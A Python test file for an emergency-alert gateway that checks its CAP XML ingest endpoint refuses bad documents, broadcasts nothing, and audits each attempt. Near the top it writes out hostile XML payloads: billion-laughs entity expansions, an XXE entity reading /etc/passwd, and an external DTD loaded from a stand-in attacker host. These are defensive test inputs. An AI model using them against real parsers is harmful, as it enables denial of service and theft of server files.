"""Bad and hostile CAP documents through the API: each gets its 4xx with a stable code (and the
schema path where there is one), nothing is sent, and the attempt is audited with the
document's hash and size, never the document."""

from __future__ import annotations

import json
from pathlib import Path

from gateway.auth import Role
from tests.cap import documents as cap
from tests.cap.test_ingest import cap_sender, migrated_database_url, post, villages
from tests.flow.conftest import Stack, stack

__all__ = ["migrated_database_url", "stack"]  # the fixtures, shared

NS = "urn:oasis:names:tc:emergency:cap:1.2"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    f'<alert xmlns="{NS}"><identifier>&lol3;</identifier></alert>'
).encode()
# Deep enough that the parser's amplification guard trips before it sees the whole document.
MANY_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'.replace("&lol1;", "&lol;")
        for n in range(2, 10)
    )
    + f']><alert xmlns="{NS}"><identifier>&lol9;</identifier></alert>'
).encode()
XXE = (
    '<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f'<alert xmlns="{NS}"><identifier>&secret;</identifier></alert>'
).encode()
EXTERNAL_DTD = (
    '<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">'
    f'<alert xmlns="{NS}"><identifier>x</identifier></alert>'
).encode()


def _storm(where: str, identifier: str, **fields: str) -> bytes:
    return cap.alert(
        identifier,
        sender=cap.KMA,
        infos=[
            cap.info(
                category="Met",
                event="뇌우",
                urgency="Immediate",
                severity="Severe",
                certainty="Observed",
                headline="뇌우 경보",
                description="시험",
                areas=[where],
                **fields,
            )
        ],
    )


async def test_bad_and_hostile_documents_are_refused_audited_and_play_nothing(
    stack: Stack,
) -> None:
    places = await villages(stack)
    weather = await cap_sender(stack, cap.KMA, Role.SAFETY_OFFICER)
    first = places["d01-v001"]
    near = cap.area("마을", circles=[f"{first['lat']},{first['lon']} 0.05"])
    square = [(35.19, 128.07), (35.19, 128.12), (35.23, 128.12), (35.23, 128.07)]
    good = _storm(near, "OK-1")
    cases: list[tuple[str, bytes, dict[str, str], int, str]] = [
        (
            "not CAP's media type",
            good,
            {"Content-Type": "text/plain"},
            415,
            "cap_invalid_media_type",
        ),
        ("not XML", b"this is not xml <", {}, 422, "cap_not_xml"),
        ("billion laughs", LAUGHS, {}, 422, "cap_dtd_forbidden"),
        ("a billion laughs", MANY_LAUGHS, {}, 422, "cap_dtd_forbidden"),
        ("external entity", XXE, {}, 422, "cap_dtd_forbidden"),
        ("external DTD", EXTERNAL_DTD, {}, 422, "cap_dtd_forbidden"),
        ("oversized", b"<a>" + b"x" * (600 * 1024) + b"</a>", {}, 422, "cap_too_large"),
        (
            "no namespace",
            good.replace(f' xmlns="{NS}"'.encode(), b""),
            {},
            422,
            "cap_wrong_namespace",
        ),
        ("CAP 1.1", good.replace(b"cap:1.2", b"cap:1.1"), {}, 422, "cap_wrong_namespace"),
        ("no scope", good.replace(b"<scope>Public</scope>", b""), {}, 422, "cap_schema_invalid"),
        (
            "self-crossing polygon",
            _storm(
                cap.area("x", polygons=[cap.polygon([square[0], square[2], square[1], square[3]])]),
                "P-1",
            ),
            {},
            422,
            "invalid_polygon",
        ),
        (
            "open polygon",
            _storm(cap.area("x", polygons=[" ".join(f"{a},{b}" for a, b in square)]), "P-2"),
            {},
            422,
            "invalid_polygon",
        ),
        (
            "negative radius",
            _storm(cap.area("x", circles=[f"{first['lat']},{first['lon']} -2"]), "C-1"),
            {},
            422,
            "invalid_radius",
        ),
        (
            "no village inside",
            _storm(cap.area("바다", circles=["34.0,127.0 0.5"]), "C-2"),
            {},
            422,
            "cap_area_empty",
        ),
        (
            "unknown code",
            _storm(cap.area("서울", geocodes=[("법정동코드", "1100000000")]), "G-1"),
            {},
            422,
            "unknown_area_code",
        ),
        (
            "nothing placeable",
            _storm(cap.area("미국", geocodes=[("SAME", "006109")]), "G-2"),
            {},
            422,
            "cap_area_unplaceable",
        ),
        (
            "an update of an unknown alert",
            cap.earthquake(
                near, "U-1", msg_type="Update", references=[f"{cap.KMA},nope,{cap.SENT}"]
            ),
            {},
            422,
            "cap_reference_unknown",
        ),
        (
            "expired",
            _storm(near, "E-1", expires="2026-01-01T08:59:00+09:00"),
            {},
            422,
            "cap_expired",
        ),
        (
            "a draft",
            good.replace(b"<status>Actual", b"<status>Draft"),
            {},
            422,
            "cap_status_not_broadcast",
        ),
        (
            "restricted",
            good.replace(
                b"<scope>Public</scope>",
                b"<scope>Restricted</scope><restriction>staff only</restriction>",
            ),
            {},
            422,
            "cap_scope_not_public",
        ),
        (
            "private",
            good.replace(
                b"<scope>Public</scope>", b"<scope>Private</scope><addresses>a b</addresses>"
            ),
            {},
            422,
            "cap_scope_not_public",
        ),
        (
            "a long text",
            _storm(near, "L-1", instruction="대피하십시오. " * 100),
            {},
            422,
            "cap_text_too_long",
        ),
        (
            "infos for different areas",
            cap.alert(
                "A-1",
                sender=cap.KMA,
                infos=[
                    cap.info(
                        language=language,
                        category="Met",
                        event="호우",
                        urgency="Immediate",
                        severity=severity,
                        certainty="Observed",
                        headline="호우",
                        description="비",
                        areas=[where],
                    )
                    for language, severity, where in (
                        ("ko-KR", "Minor", near),
                        ("en-US", "Extreme", cap.area("바다", circles=["34.0,127.0 0.5"])),
                    )
                ],
            ),
            {},
            422,
            "cap_info_areas_differ",
        ),
        (
            "no Korean info",
            good.replace(b"<language>ko-KR</language>", b"<language>en-US</language>"),
            {},
            422,
            "cap_no_korean_info",
        ),
        (
            "sent years ahead",
            good.replace(cap.SENT.encode(), b"2030-01-01T00:00:00+09:00"),
            {},
            422,
            "cap_sent_in_future",
        ),
        (
            "a huge identifier",
            good.replace(b"<identifier>OK-1", b"<identifier>" + b"x" * 300),
            {},
            422,
            "cap_field_too_long",
        ),
        (
            "another sender",
            good.replace(cap.KMA.encode(), b"other@example.org"),
            {},
            403,
            "cap_sender_not_allowed",
        ),
    ]
    for what, document, headers, status, code in cases:
        answer, body = await post(stack, document, {**weather, **headers})
        assert (answer, body["error"]) == (status, code), what
        assert " / " in body["detail"], what
    # A schema error names where it is.
    [no_scope] = [c[1] for c in cases if c[0] == "no scope"]
    _, body = await post(stack, no_scope, weather)
    assert body["path"] == "/cap:alert/cap:info", body
    # A disabled sender's alerts are refused.
    [row] = (await stack.client.get("/api/v1/cap/senders")).json()["items"]
    patched = await stack.client.patch(f"/api/v1/cap/senders/{row['id']}", json={"enabled": False})
    assert patched.status_code == 200, patched.text
    answer, body = await post(stack, good, weather)
    assert (answer, body["error"]) == (403, "cap_sender_not_allowed")

    # Nothing was made, nothing is sent.
    listed = (await stack.client.get("/api/v1/broadcasts")).json()
    assert listed["total"] == 0
    assert await stack.publish_pending() == 0
    assert not stack.bus.published
    # Every attempt is in the audit log with its reason, and the document's hash and size.
    rows = (
        await stack.client.get(
            "/api/v1/audit-events", params={"action": "ingest_cap", "limit": 100}
        )
    ).json()["items"]
    assert len(rows) == len(cases) + 2
    reasons = sorted(r["reason"].split(" at ")[0] for r in rows)
    assert reasons == sorted(
        [c[4] for c in cases] + ["cap_schema_invalid", "cap_sender_not_allowed"]
    )
    assert all(r["outcome"] in ("rejected", "denied") for r in rows)
    sized = [r for r in rows if r["reason"] != "cap_invalid_media_type"]
    assert all("cap_sha256=" in r["target"] and "cap_bytes=" in r["target"] for r in sized)
    assert "etc/passwd" not in json.dumps(rows)
    assert "lol2" not in json.dumps(rows)


async def test_senders_are_managed_by_the_city_administrator(stack: Stack) -> None:
    weather = await cap_sender(stack, cap.KMA, Role.SAFETY_OFFICER)
    [row] = (await stack.client.get("/api/v1/cap/senders")).json()["items"]
    again = await stack.client.post(
        "/api/v1/cap/senders", json={"sender": cap.KMA, "user_id": row["user_id"]}
    )
    assert (again.status_code, again.json()["error"]) == (409, "cap_sender_exists")
    missing = await stack.client.post("/api/v1/cap/senders", json={"sender": "x", "user_id": 99999})
    assert (missing.status_code, missing.json()["error"]) == (404, "user_not_found")
    # The sender's own account may post alerts, not manage the list.
    listed = await stack.client.get("/api/v1/cap/senders", headers=weather)
    assert (listed.status_code, listed.json()["error"]) == (403, "role_not_allowed")


def test_the_documented_answers_include_who_may_post() -> None:
    spec = json.loads((Path(__file__).parents[2] / "openapi" / "openapi.json").read_text())
    answers = spec["paths"]["/api/v1/cap"]["post"]["responses"]
    assert "not_authenticated" in answers["401"]["description"]
    assert "account_suspended" in answers["403"]["description"]
    assert "cap_reference_mode_mismatch" in answers["409"]["description"]
    assert "idempotency_key_reused" in answers["422"]["description"]
